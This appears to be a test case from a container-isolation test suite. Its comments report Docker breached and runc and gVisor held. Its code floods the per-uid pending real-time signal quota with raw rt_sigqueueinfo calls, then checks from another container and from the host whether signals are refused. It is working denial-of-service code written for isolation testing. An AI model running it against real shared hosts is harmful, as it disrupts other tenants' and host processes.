# Tries: take all signals that may wait for its uid
# Idea: HARDENING's row of distinct uids; RLIMIT_SIGPENDING
# Docker: breached with --user 61234:61234
# runc: held
# gVisor: held
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
info = ctypes.create_string_buffer(struct.pack("iii", signal.SIGRTMIN, 0, -1) + bytes(116))
taken, pid, at = 0, os.getpid(), ctypes.addressof(info)
send = lambda: call(129, 138, pid, int(signal.SIGRTMIN), at)
while taken < 400_000 and not refused(send): taken += 1
ready(taken)
#--- meanwhile, in another container and on the host
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
info = ctypes.create_string_buffer(struct.pack("iii", signal.SIGRTMIN, 0, -1) + bytes(116))
error = refused(call, 129, 138, os.getpid(), int(signal.SIGRTMIN), ctypes.addressof(info))
if error: breached(error)
held("one more")
